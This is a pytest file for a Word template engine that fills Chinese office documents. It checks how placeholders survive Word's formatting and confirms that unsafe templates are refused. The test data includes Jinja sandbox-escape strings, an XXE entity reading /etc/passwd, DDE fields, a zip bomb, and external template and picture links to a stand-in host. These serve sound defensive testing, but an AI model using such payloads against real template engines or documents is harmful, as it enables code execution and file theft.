"""Templates as offices make them: what Word does to placeholders, what is refused, what the sandbox keeps out."""

from __future__ import annotations

import io
import posixpath
import random
import re
import zipfile
from collections import Counter
from datetime import UTC, datetime

import pytest
from docx import Document
from lxml import etree

from engine.service import document_layouts, document_template, docx_package
from engine.service.catalogue import said
from engine.service.document_kinds import GENERAL, KINDS, OF_CASE
from engine.service.docx_package import W
from tests.support import word

KIND = KINDS["assignment"]
AT = datetime(2026, 3, 2, 1, 0, tzinfo=UTC)
EVERY = sorted(KINDS)


def run(text: str, before: str = "") -> str:
    return f'<w:r w:rsidR="00A1B2C3"><w:rPr><w:rFonts w:hint="eastAsia"/></w:rPr>{before}<w:t>{text}</w:t></w:r>'


def with_paragraph(*runs: str) -> bytes:
    """A template whose one paragraph consists of these runs of XML."""
    return word.changed(word.written("HERE"), "word/document.xml", "<w:r><w:t>HERE</w:t></w:r>", "".join(runs))


def rendered(docx: bytes, **data: object) -> str:
    values = {**document_template.empty(KIND), **data}
    return word.text(document_template.render(docx, KIND, values, "", AT))


def keys(docx: bytes) -> list[str]:
    return [fault.key.removeprefix("document.template.") for fault in document_template.check(docx, KIND)]


# what is shipped


@pytest.mark.parametrize("kind", EVERY)
def test_the_shipped_file_is_what_the_script_draws(kind: str):
    shipped, drawn = (
        docx_package.opened(one) for one in (document_layouts.shipped(kind), document_layouts.drawn(kind))
    )

    assert shipped.keys() == drawn.keys()
    assert [name for name in shipped if shipped[name] != drawn[name]] == []


@pytest.mark.parametrize("kind", EVERY)
def test_a_shipped_template_passes_the_check_and_names_only_fonts_that_come_with_word_and_wps(kind: str):
    shipped = document_layouts.shipped(kind)

    assert document_template.check(shipped, KINDS[kind]) == ()
    named = set(re.findall(rb'w:(?:ascii|hAnsi|eastAsia)="([^"]+)"', docx_package.opened(shipped)["word/document.xml"]))
    assert {one.decode() for one in named} <= set(document_layouts.FONTS)
    assert not [name for name in docx_package.opened(shipped) if "fonts/" in name]


@pytest.mark.parametrize("kind", EVERY)
def test_a_document_is_a_valid_package_without_a_placeholder_left(kind: str):
    made = document_template.render(
        document_layouts.shipped(kind), KINDS[kind], document_template.example(KINDS[kind]), "题名", AT
    )

    parts = docx_package.opened(made)
    trees = {name: etree.fromstring(body) for name, body in parts.items() if name.endswith((".xml", ".rels"))}
    types = trees["[Content_Types].xml"]
    defaults = {one.get("Extension") for one in types if one.get("Extension")}
    overrides = {str(one.get("PartName")).removeprefix("/") for one in types if one.get("PartName")}
    assert [name for name in parts if name not in overrides and name.rpartition(".")[2] not in defaults] == []
    assert overrides <= parts.keys()
    for name, tree in trees.items():
        if name.endswith(".rels"):
            folder = name.partition("_rels/")[0]
            ids = [one.get("Id") for one in tree]
            assert len(ids) == len(set(ids)), name
            targets = [str(one.get("Target")) for one in tree]
            places = [posixpath.normpath(posixpath.join("/", folder, one)).removeprefix("/") for one in targets]
            assert [one for one in places if one not in parts] == []
    body = trees["word/document.xml"]
    marks = Counter(
        (etree.QName(one).localname, value)
        for one in body.iter(f"{{{W}}}bookmarkStart", "{*}docPr", f"{{{W}}}p")
        for name, value in one.attrib.items()
        if str(name).endswith(("}id", "}paraId")) or name == "id"
    )
    assert [mark for mark, count in marks.items() if count > 1] == []
    text = word.text(made)
    assert not re.search(r"\{\{|\}\}|\{%|%\}", "".join(str(part) for part in body.itertext()))
    assert "示例 & <文字>《》" in text
    assert Document(io.BytesIO(made)).core_properties.title == "题名"


@pytest.mark.parametrize("kind", EVERY)
def test_every_placeholder_that_a_kind_offers_can_be_written_and_is_filled(kind: str):
    offered = KINDS[kind].placeholders
    template = word.written(*(f"{{{{{name}}}}}" for name in offered))

    assert document_template.check(template, KINDS[kind]) == ()
    made = document_template.render(template, KINDS[kind], document_template.example(KINDS[kind]), "", AT)
    lines = word.text(made).split("\n")
    for name in offered:
        expected = name if "." not in name else f"{name.partition('.')[2]}1"
        assert any(line.startswith(expected) for line in lines), name


def test_the_same_document_is_the_same_bytes():
    press = KINDS["press"]
    first, second = (
        document_template.render(document_layouts.shipped("press"), press, document_template.example(press), "", AT)
        for _ in range(2)
    )  # fmt: skip

    assert first == second


# what Word does to them


def test_a_placeholder_that_word_cut_into_runs_is_still_one():
    template = with_paragraph(
        run("文号是{"), '<w:proofErr w:type="spellStart"/>', run("{"), '<w:bookmarkStart w:id="0" w:name="_GoBack"/>',
        run("文"), '<w:proofErr w:type="spellEnd"/>', run("号"), '<w:bookmarkEnd w:id="0"/>', run("}"), run("}，完"),
    )  # fmt: skip

    assert keys(template) == []
    assert rendered(template, 文号="〔2026〕12号") == "文号是〔2026〕12号，完"


def test_what_stands_between_two_parts_of_a_placeholder_is_kept():
    """docxtpl alone would drop the line break, and everything else between the runs of a placeholder."""
    cut = with_paragraph(run("{{文"), run("", "<w:br/>"), run("号}}"), run("后{{日"), run("期}}"))

    made = document_template.render(cut, KIND, {**document_template.empty(KIND), "文号": "甲", "日期": "乙"}, "", AT)

    assert word.text(made) == "甲\n后乙"
    assert docx_package.opened(made)["word/document.xml"].count(b"<w:br/>") == 1


@pytest.mark.parametrize(
    "typed",
    ["｛｛文号｝｝", "{{ 文号 }}", "{{　文号　}}", "{{\u200b文号}}", "{{\xa0文号}}", "{ {文号} }".replace(" ", "")],
)
def test_signs_of_a_chinese_keyboard_and_invisible_ones_do_no_harm(typed: str):
    template = word.written(f"前{typed}后")

    assert keys(template) == []
    assert rendered(template, 文号="12号") == "前12号后"


def test_any_way_to_cut_a_paragraph_into_runs_gives_the_same_document():
    seed = random.randrange(10**6)
    chance = random.Random(seed)
    whole = "第{{文号}}件，{{案件标题}}（{{ 日期 }}）交{{主办单位}}。"
    for _ in range(8):
        cuts = sorted(chance.sample(range(1, len(whole)), chance.randrange(1, 12)))
        pieces = [whole[a:b] for a, b in zip([0, *cuts], [*cuts, len(whole)], strict=True)]
        noise = [
            '<w:proofErr w:type="gramStart"/>',
            "",
            '<w:bookmarkStart w:id="7" w:name="x"/><w:bookmarkEnd w:id="7"/>',
        ]
        template = with_paragraph(*(part for piece in pieces for part in (run(piece), chance.choice(noise))))

        made = rendered(template, 文号="1", 案件标题="标题 & <b>", 日期="今天", 主办单位="科")
        assert made == "第1件，标题 & <b>（今天）交科。", f"seed {seed}: {pieces}"


def test_a_row_with_a_list_in_it_comes_once_for_each_and_not_at_all_for_none():
    document = Document()
    table = document.add_table(2, 2)
    for cell, text in zip(
        (*table.rows[0].cells, *table.rows[1].cells), ("单位", "分工", "{{单位.名称}}", "{{单位.分工}}"), strict=True
    ):
        cell.text = text
    template = word.saved(document)
    rows = [{"名称": name, "分工": role} for name, role in (("耕保科", "主办"), ("规划科", "协办"))]

    assert keys(template) == []
    assert rendered(template, 单位=rows) == "单位\n分工\n耕保科\n主办\n规划科\n协办"
    assert rendered(template, 单位=[]) == "单位\n分工"


def test_what_stands_between_if_and_endif_comes_only_where_there_is_something():
    template = word.written("{%p if 替代%}", "替代：{{替代}}", "{%p else%}", "原件", "{%p endif%}", "{{文号}}")

    assert rendered(template, 替代="旧件", 文号="1") == "替代：旧件\n1"
    assert rendered(template, 文号="1") == "原件\n1"


# what people write


AWKWARD = {
    "signs": "甲 & 乙 <丙> \"丁\" '戊' 《己》 {{庚}} {% if %}",
    "emoji": "好评👍🏽 家庭👨‍👩‍👧 国旗🇨🇳",
    "rare": "𠮷野家 㐂",
    "long": "很长" * 3000,
    "combining": "e\u0301",
}


@pytest.mark.parametrize("name", sorted(AWKWARD))
def test_whatever_people_write_arrives_in_the_document(name: str):
    made = rendered(word.written("前{{案件标题}}后"), 案件标题=AWKWARD[name])

    assert made == f"前{document_template.text(AWKWARD[name])}后"


def test_lines_become_paragraphs_and_control_characters_vanish():
    template = word.written("{{案件标题}}")

    made = document_template.render(
        template,
        KIND,
        {**document_template.empty(KIND), "案件标题": "一\r\n二\n三\x00\x07\x1b\ud83d\ufffe四\t五"},
        "",
        AT,
    )

    assert word.text(made) == "一\n二\n三四\t五"
    assert len([one for one in Document(io.BytesIO(made)).paragraphs if one.text]) == 3


def test_nothing_that_is_written_in_a_field_is_ever_taken_for_a_placeholder():
    made = rendered(word.written("{{案件标题}}{{文号}}"), 案件标题="{{文号}} {{ 7*7 }} {%p if x %}", 文号="12")

    assert made == "{{文号}} {{ 7*7 }} {%p if x %}12"


# what is refused


@pytest.mark.parametrize(
    ("paragraphs", "expected"),
    [
        (("正文", "{{文号码}}"), "unknown"),
        (("{{单位}}",), "needs_column"),
        (("{{单位.面积}}",), "unknown"),
        (("{{文号.长度}}",), "unknown"),
        (("{{文号",), "broken"),
        (("文号}}",), "broken"),
        (("{% if 文号 %}", "{{文号}}"), "not_allowed"),
        (("{%p if 文号%}", "{{文号}}"), "not_ended"),
        (("{{文号}}", "{%p endif%}"), "not_begun"),
        (("前{%p if 文号%}", "{{文号}}", "{%p endif%}"), "alone"),
        (("{{单位.名称}}{{批示.领导}}",), "two_lists"),
        (("{# 注 #}{{文号}}",), "not_allowed"),
        (("没有占位符",), "no_placeholder"),
        (("{{文号|upper}}",), "not_allowed"),
        (("{{''.__class__.__mro__}}",), "not_allowed"),
        (("{{文号.__class__}}",), "unknown"),
        (("{{ self }}",), "unknown"),
        (("{{ cycler.__init__.__globals__ }}",), "not_allowed"),
        (("{{ range(9) }}",), "not_allowed"),
        (("{% for x in 单位 %}{{文号}}{% endfor %}",), "not_allowed"),
        (("{%p set x = 1%}", "{{文号}}"), "not_allowed"),
        (("{%p include 'x'%}", "{{文号}}"), "not_allowed"),
    ],
)
def test_a_bad_placeholder_is_refused_with_its_paragraph_named(paragraphs: tuple[str, ...], expected: str):
    found = document_template.check(word.written(*paragraphs), KIND)

    assert f"document.template.{expected}" in [fault.key for fault in found]
    if expected != "no_placeholder":
        told = said(found[0].key, found[0].params)
        assert "正文第 " in told and "{" + "part" not in told
        assert any(str(found[0].params["text"])[:20] in one for one in paragraphs)


def test_the_sandbox_gives_nothing_even_to_a_template_that_was_never_checked():
    parts = docx_package.opened(word.written("HERE"))
    for attack in (
        "{{ 文号.__class__ }}",
        "{{ 文号.upper() }}",
        "{{ 文号 | length }}",
        "{{ namespace() }}",
        "{{ 单位[0].keys() }}",
    ):
        bad = {**parts, "word/document.xml": parts["word/document.xml"].replace(b"HERE", attack.encode())}

        with pytest.raises(document_template.CannotRender):
            document_template._rendered(bad, document_template.example(KIND))


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


GOOD = word.written("{{文号}}")
RELS = "word/_rels/document.xml.rels"
EXTERNAL = '<Relationship Id="rId99" Type="http://x/t" Target="http://d01.example/x.dotm" TargetMode="External"/>'
ENTITY = b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"
DDE = "<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\x</w:instrText></w:r>"
WITH_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
TYPES = "[Content_Types].xml"


@pytest.mark.parametrize(
    ("docx", "expected"),
    [
        (b"", "not_docx"),
        (b"PK\x03\x04 broken", "not_docx"),
        (zipped({"word/document.xml": b"<x/>"}), "not_docx"),
        (b"x" * (docx_package.MAX_PACKED + 1), "too_large"),
        (zipped({f"word/{n}.xml": b"<x/>" for n in range(docx_package.MAX_PARTS + 1)}), "too_large"),
        (word.with_parts(GOOD, {"word/vbaProject.bin": b"\xd0\xcf"}), "macro"),
        (word.changed(GOOD, TYPES, "ml.document.main+xml", "ml.template.main+xml"), "not_docx"),
        (word.changed(GOOD, TYPES, docx_package.MAIN, WITH_MACROS), "macro"),
        (word.with_parts(GOOD, {"word/embeddings/oleObject1.xml": b"<x/>"}), "embedded"),
        (word.with_parts(GOOD, {"word/fonts/font1.odttf": b"x"}), "font"),
        (word.with_parts(GOOD, {"word/comments.xml": b"<x/>"}), "comments"),
        (word.changed(GOOD, RELS, "</Relationships>", f"{EXTERNAL}</Relationships>"), "external"),
        (word.with_parts(GOOD, {"word/document.xml": ENTITY}), "xml"),
        (word.with_parts(GOOD, {"word/document.xml": b"<w:document>"}), "xml"),
        (with_paragraph(run("{{文号}}"), '<w:ins w:id="1" w:author="x">', run("新"), "</w:ins>"), "tracked"),
        (with_paragraph(run("{{文号}}"), DDE), "field"),
        (with_paragraph(run("{{文号}}"), '<w:fldSimple w:instr=" INCLUDEPICTURE http://d01.example/x "/>'), "field"),
    ],
    ids=range(17),
)  # fmt: skip
def test_a_file_that_is_no_plain_template_is_refused_and_says_why(docx: bytes, expected: str):
    found = document_template.check(docx, KIND)

    assert f"document.template.{expected}" in [fault.key for fault in found]
    assert all("{" not in said(fault.key, fault.params) for fault in found)


def test_a_bomb_is_not_unpacked():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"0" * (docx_package.MAX_UNPACKED + 1))

    assert len(out.getvalue()) < docx_package.MAX_PACKED
    assert keys(out.getvalue()) == ["too_large"]


def test_the_page_about_documents_names_every_placeholder_of_every_kind():
    page = (document_layouts.FOLDER.parents[1] / "docs" / "documents.md").read_text(encoding="utf-8")
    general, sections = page.partition("### ")[0], page.split("\n### ")[1:]
    by_kind = {re.findall(r"\(`(\w+)`\)", section)[0]: section for section in sections}

    assert by_kind.keys() == KINDS.keys()
    for kind in KINDS.values():
        told = set(re.findall(r"`([^`]+)`", by_kind[kind.kind].partition("\n")[2]))
        assert told == {*kind.fields, *kind.lists, *(name for name in kind.placeholders if "." in name)}, kind.kind
    assert [name for name in (*GENERAL, *OF_CASE) if f"`{name}`" not in general] == []
